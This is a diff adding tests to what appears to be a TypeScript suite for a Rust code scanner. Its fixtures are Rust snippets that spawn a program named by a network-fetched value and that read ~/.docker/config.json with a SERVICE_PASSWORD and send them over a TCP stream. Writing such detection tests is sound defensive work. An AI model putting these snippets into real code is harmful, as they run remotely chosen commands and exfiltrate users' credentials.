@@ -198,3 +198,34 @@ test("a registry's client keeps the index, and nobody but cargo what is built", 
   expect(await claimsOf(keeping('src'))).toContain('toolchain-tamper');
   expect(await claimsOf(keeping('index'))).not.toContain('toolchain-tamper');
 });
+
+const given = (type: string, uses: string) => `
+  ${uses}
+  pub struct Client {}
+  impl Client {
+    pub fn get(&self, path: &str) -> std::net::TcpStream { std::net::TcpStream::connect("192.0.2.1:1").unwrap() }
+  }
+  pub fn go(settings: ${type}) { std::process::Command::new(settings.get("helper")).spawn(); }`;
+
+test("a method of another crate's type is none of this crate's, by whichever name the type goes here", async () => {
+  expect(await claimsOf(given('&Client', ''))).toContain('remote-command');
+  expect(await claimsOf(given('&Profile', 'use crate::profile::Profile;'))).toContain('remote-command');
+  for (const [type, uses] of [
+    ['&std::ffi::OsStr', ''],
+    ["&'a mut Profile", 'use std::process::Profile;'],
+    ['Profile', 'use crate::profile::Profile; mod profile { pub use std::process::Profile; }'],
+  ] as const)
+    expect(await claimsOf(given(type, uses))).not.toContain('remote-command');
+});
+
+const sending = (body: string) => `
+  pub fn go(client: &std::net::TcpStream, path: &str) {
+    let token = std::env::var("SERVICE_PASSWORD").unwrap();
+    let held = std::fs::read_to_string(${body}).unwrap();
+    client.write_all(format!("{token} {held}"));
+  }`;
+
+test("a client's own credential beside a file is no file of credentials", async () => {
+  expect(await claimsOf(sending('dirs::home_dir().unwrap().join(".docker/config.json")'))).toContain('read-then-send');
+  expect(await claimsOf(sending('path'))).not.toContain('read-then-send');
+});
